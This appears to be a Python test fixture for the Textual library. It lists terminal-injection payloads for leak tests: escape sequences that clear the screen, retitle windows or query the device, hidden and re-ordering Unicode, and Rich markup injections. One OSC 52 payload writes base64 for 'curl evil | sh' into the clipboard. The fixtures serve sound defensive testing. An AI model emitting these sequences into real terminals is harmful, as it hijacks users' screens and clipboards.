"""Hostile text, for every test of a place where outside text is shown.

Each payload holds a needle: characters that must not come out of a terminal program in the form given here.
The needles are unlike anything that Textual writes by itself, so a byte search finds leaks and nothing else.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text and the part of it that may not reach the terminal."""

    name: str
    text: str
    needle: str


def _whole(name: str, needle: str) -> Payload:
    return Payload(name, f"ab{needle}cd", needle)


PAYLOADS = (
    # sequences that a terminal obeys
    _whole("colour", "\x1b[5;35;9;53m"),
    _whole("clear and move", "\x1b[2J\x1b[3;77H"),
    _whole("scroll region", "\x1b[3;7r"),
    _whole("status query", "\x1b[5n\x1b[6n"),
    _whole("device query", "\x1b[>0c"),
    _whole("leave the alternate screen", "\x1b[?1049l\x1b[?1003h"),
    _whole("window title", "\x1b]2;OWNED-TITLE\x1b\\"),
    _whole("window title ended by BEL", "\x1b]0;OWNED-BEL\x07"),
    _whole("link", "\x1b]8;;http://owned.example/\x1b\\"),
    _whole("notification", "\x1b]9;OWNED-NOTE\x1b\\"),
    _whole("clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"),
    _whole("iTerm", "\x1b]1337;OWNED=1\x07"),
    _whole("device control", "\x1bP$q\x22p\x1b\\"),
    _whole("application command", "\x1b_OWNED-APC\x1b\\"),
    _whole("full reset", "\x1bc"),
    _whole("unterminated device control", "\x1bP1;1|OWNED"),
    _whole("C1 sequence", "\x9b5;35m"),
    _whole("C1 operating system command", "\x9d2;OWNED-C1\x9c"),
    _whole("next line", "\x85"),
    _whole("escape split by a colour", "\x1b\x1b[0m[31;7m"),
    # single controls
    _whole("NUL", "b\x00c"),
    _whole("enquiry", "b\x05c"),
    _whole("bell", "b\x07c"),
    _whole("backspace", "b\x08\x08c"),
    _whole("tab", "b\tc"),
    _whole("vertical tab", "b\x0bc"),
    _whole("form feed", "b\x0cc"),
    _whole("carriage return", "safe\rEVIL"),
    _whole("shift out", "b\x0ec"),
    _whole("XOFF", "b\x13c"),
    _whole("substitute", "b\x1ac"),
    _whole("delete", "b\x7fc"),
    # what re-orders or hides
    _whole("right-to-left override", "\u202e"),
    _whole("isolate", "\u2066"),
    _whole("right-to-left mark", "\u200f"),
    _whole("Arabic letter mark", "\u061c"),
    _whole("zero width space", "\u200b"),
    _whole("word joiner", "\u2060"),
    _whole("byte order mark", "\ufeff"),
    _whole("soft hyphen", "\u00ad"),
    _whole("Hangul filler", "\u3164"),
    _whole("wide Hangul filler", "\u115f"),
    _whole("tag characters", "\U000e0041\U000e007f"),
    _whole("variation selectors", "\U000e0100\U000e01ef"),
    _whole("line separator", "\u2028"),
    _whole("paragraph separator", "\u2029"),
    _whole("noncharacter", "\ufffe"),
    _whole("noncharacter beyond the first plane", "\U0010ffff"),
    _whole("annotation anchor", "\ufff9"),
)

MARK_FLOOD = "a" + "\u0301" * 60
LONE_SURROGATE = "ab\ud800cd"

MARKUP = (
    "[/]",
    "[/foo]",
    "[link=http://x]",
    "[link='http://e/\x1b\\\x1b]52;c;ZXZpbA==\x1b\\']x[/]",
    "[@click=app.simulate_key('a')]x[/]",
    "[red]",
    "\\[",
    "$x",
    "[",
    "list[dict[str, int]]",
)
"""Texts that Textual or Rich would read as markup, where a program let them."""
